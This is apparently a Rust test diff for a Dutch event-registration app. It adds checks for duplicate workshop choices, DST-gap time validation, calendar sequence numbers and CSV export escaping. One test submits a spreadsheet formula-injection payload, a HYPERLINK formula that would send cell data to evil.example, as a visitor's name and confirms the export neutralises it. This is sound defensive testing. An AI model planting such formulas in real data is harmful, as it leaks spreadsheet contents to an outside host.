@@ -255,6 +255,29 @@ async fn registration_refuses_bad_input_and_loses_nothing(backend: Backend) {
         register(&app, open_slug, json!({"name": "A", "email": "a@deelnemer.test", "choices": [foreign]})).await;
     assert_eq!(status, 422);
     assert!(body["message"].as_str().unwrap().contains("hoort niet bij deze bijeenkomst"), "{body}");
+    // The same workshop twice is refused, by the API and by the form (the form shows the message).
+    let (status, body) = register(&app, open_slug, person(3, &[own, own])).await;
+    assert_eq!(status, 422, "{body}");
+    assert!(body["fields"]["choices"][0].as_str().unwrap().contains("dezelfde workshop meer dan eens"), "{body}");
+    let event_path = format!("/agenda/{open_slug}");
+    let page = app.get(&event_path).await.text().await.unwrap();
+    let slot_field = format!("slot_{}", page.split("name=\"slot_").nth(1).unwrap().split('"').next().unwrap());
+    let own_choice = own.to_string();
+    let refused = app
+        .submit_form(
+            &app.browser(),
+            &event_path,
+            &format!("{event_path}/aanmelden"),
+            &[
+                ("name", "Twee keer"),
+                ("email", "twee@deelnemer.test"),
+                (slot_field.as_str(), own_choice.as_str()),
+                (slot_field.as_str(), own_choice.as_str()),
+            ],
+        )
+        .await;
+    assert_eq!(refused.status(), 422);
+    assert!(refused.text().await.unwrap().contains("dezelfde workshop meer dan eens"));
     let (status, body) = register(&app, closed_slug, person(1, &[foreign])).await;
     assert_eq!(status, 409);
     assert_eq!(body["message"], "De aanmelding voor deze bijeenkomst is gesloten.");
@@ -444,7 +467,19 @@ async fn calendar_shows_dutch_time_across_dst(backend: Backend) {
     let uid = invitation.lines().find(|line| line.starts_with("UID:")).unwrap();
     assert!(text.contains(uid), "{uid} in the feed");
 
-    // The organiser's CSV opens in Excel: BOM, semicolons.
+    // A visitor whose name and remarks a spreadsheet would run as formulas.
+    let (status, body) = register(
+        &app,
+        slug,
+        json!({
+            "name": "=HYPERLINK(\"https://evil.example/?\"&A2,\"Klik\")", "email": "formule@deelnemer.test",
+            "organisation": "@SUM(1+1)", "remarks": "-2+3",
+        }),
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+
+    // The organiser's CSV opens in Excel: BOM, semicolons, no formulas.
     let csv = app
         .client
         .get(format!("{}/agenda/{slug}/aanmeldingen.csv", app.address))
@@ -455,7 +490,15 @@ async fn calendar_shows_dutch_time_across_dst(backend: Backend) {
     assert_eq!(csv.status(), 200);
     let bytes = csv.bytes().await.unwrap();
     assert!(bytes.starts_with(b"\xEF\xBB\xBFNaam;E-mail;"));
-    assert!(String::from_utf8_lossy(&bytes).contains("Graag vegetarisch"));
+    let text = String::from_utf8_lossy(&bytes);
+    assert!(text.contains("Graag vegetarisch"));
+    assert!(
+        text.contains(
+            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Klik\"\")\";formule@deelnemer.test;'@SUM(1+1);"
+        ),
+        "{text}"
+    );
+    assert!(text.contains(";'-2+3;"), "{text}");
     // Participant lists are for organisers only.
     let as_member = app
         .client
@@ -595,6 +638,22 @@ async fn organiser_runs_an_event_in_the_browser(backend: Backend) {
     moved.extend([("starts_at", "2027-01-26T10:00"), ("ends_at", "2027-01-26T15:00")]);
     let edit = format!("{path}/bewerken");
     assert_eq!(app.submit_form(&organiser, &edit, &edit, &moved).await.status(), 303);
+    // A second change right after the first (within the same second, most likely).
+    let mut moved_again = moved.clone();
+    moved_again.retain(|(key, _)| *key != "location");
+    moved_again.push(("location", "Jaarbeurs, zaal 2"));
+    assert_eq!(app.submit_form(&organiser, &edit, &edit, &moved_again).await.status(), 303);
+    // An hour that does not exist in Dutch time is explained, not called a wrong format.
+    let mut in_the_gap = moved.clone();
+    in_the_gap.retain(|(key, _)| *key != "starts_at");
+    in_the_gap.push(("starts_at", "2027-03-28T02:30"));
+    let refused = app.submit_form(&organiser, &edit, &edit, &in_the_gap).await;
+    assert_eq!(refused.status(), 422);
+    let page = refused.text().await.unwrap();
+    assert!(
+        page.contains("Dit tijdstip bestaat niet: op zondag 28 maart 2027 gaat de klok van 2:00 naar 3:00"),
+        "{page}"
+    );
     let edit_page = organiser.get(format!("{}{edit}", app.address)).send().await.unwrap().text().await.unwrap();
     let csrf = hidden_field(&edit_page, "csrf");
     let called_off = organiser
@@ -604,13 +663,35 @@ async fn organiser_runs_an_event_in_the_browser(backend: Backend) {
         .await
         .unwrap();
     assert_eq!(called_off.status(), 303);
-    let mails = smtp.wait_for("sanne@deelnemer.test", 5).await;
+    let mails = smtp.wait_for("sanne@deelnemer.test", 6).await;
     let subjects: Vec<String> = mails.iter().map(|mail| mail.header("Subject")).collect();
     assert!(subjects.iter().any(|subject| subject.starts_with("Kick-off inspiratieregio's: Parkeren")), "{subjects:?}");
     let changed = mails.iter().find(|mail| mail.header("Subject").starts_with("Gewijzigd")).unwrap();
     assert!(changed.part("text/plain").contains("dinsdag 26 januari 2027"));
     let off = mails.iter().find(|mail| mail.header("Subject").starts_with("Afgelast")).unwrap();
     assert!(off.part("text/calendar").contains("STATUS:CANCELLED"));
+    // Every version of the calendar entry names its organiser and outranks the one before.
+    let calendars: Vec<(String, String)> = mails
+        .iter()
+        .filter(|mail| !mail.part("text/calendar").is_empty())
+        .map(|mail| (mail.header("Subject"), mail.part("text/calendar")))
+        .collect();
+    let mut sequences: Vec<(u32, &str)> = calendars
+        .iter()
+        .map(|(subject, text)| {
+            let calendar: Calendar = text.parse().expect("the attachment parses as iCalendar");
+            let event = calendar.components.iter().find_map(|component| match component {
+                CalendarComponent::Event(event) => Some(event),
+                _ => None,
+            });
+            let property = |name: &str| event.and_then(|event| event.properties().get(name)).map(|found| found.value());
+            assert_eq!(property("ORGANIZER"), Some("mailto:noreply@oogst.localhost"), "{text}");
+            assert!(text.contains("ORGANIZER;CN=\"Oogst\":mailto:noreply@oogst.localhost\r\n"), "{text}");
+            (property("SEQUENCE").unwrap().parse().unwrap(), subject.split(':').next().unwrap())
+        })
+        .collect();
+    sequences.sort();
+    assert_eq!(sequences, [(0, "U bent aangemeld"), (1, "Gewijzigd"), (2, "Gewijzigd"), (3, "Afgelast")]);
     let (status, body) = register(&app, &slug, person(7, &[])).await;
     assert_eq!(status, 409, "{body}");
 
